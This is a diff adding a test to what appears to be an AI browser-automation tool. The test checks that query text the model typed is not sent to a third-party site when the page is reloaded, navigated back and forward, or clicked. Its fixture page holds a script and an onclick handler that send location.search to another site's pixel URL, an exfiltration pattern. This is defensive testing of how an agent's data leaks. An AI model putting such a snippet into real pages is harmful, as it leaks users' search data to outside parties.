@@ -195,3 +195,17 @@ async def test_a_link_in_a_drawing_is_judged_like_another(session: Session, serv
     result = await session.call_as("model", "click", ref=await ref_of(session, "svg a"))
     assert result.ok, result.error
     assert session.tab.url.raw.endswith("/other")
+
+
+async def test_what_a_model_made_up_is_not_told_on_when_its_page_is_loaded_again(session: Session, serve: PageServer):
+    pixel = f"{serve.other_site}/pixel"
+    page = f"""<input type=search aria-label=Find><img id=i><button onclick="i.src = '{pixel}?c=' + location.search">
+    More</button><script>i.src = '{pixel}?p=' + location.search</script>"""
+    url = serve(page, "/search")
+    serve("<h1>Start</h1>", "/start")
+    await session.call("goto", url=serve.origin + "/start")
+    assert await as_model(session, "goto", url=url + "?q=stolen-words")
+    for tool, params in (("reload", {}), ("back", {}), ("forward", {})):
+        assert (await session.call_as("model", tool, **params)).ok
+    assert (await session.call_as("model", "click", ref=(await refs(session))["More"])).ok
+    assert [request.path for request in serve.requests if "pixel" in request.path and "stolen" in request.path] == []
